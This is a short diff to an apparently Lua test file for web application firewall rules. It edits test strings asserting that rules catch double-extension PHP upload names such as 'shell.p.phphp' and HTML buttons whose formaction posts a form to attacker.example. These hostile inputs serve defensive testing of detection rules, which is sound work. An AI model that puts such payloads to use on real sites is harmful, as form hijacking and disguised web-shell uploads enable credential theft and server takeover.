@@ -51,7 +51,7 @@ describe("edge.waf.rules two-hundred-and-nineteenth round on", function()
     end)
 
     it("uploads and markup: PHP's extension doubled into itself, a button that posts its form elsewhere", function()
-        caught_by(133140, { "shell.p.phphp", "x.phpphp", "a.pphphp" })
+        caught_by(133140, { "shell.p.phphp", "x.ph.phpp", "a.pphphp" })
         caught_by(141250, { "<button form=f formaction=https://attacker.example/c>Go</button>",
             "<input type=submit formaction='http://a.example/x'>" })
         clean({ "photo.png", "php-notes.md", "phphp", "the formaction attribute overrides action" })
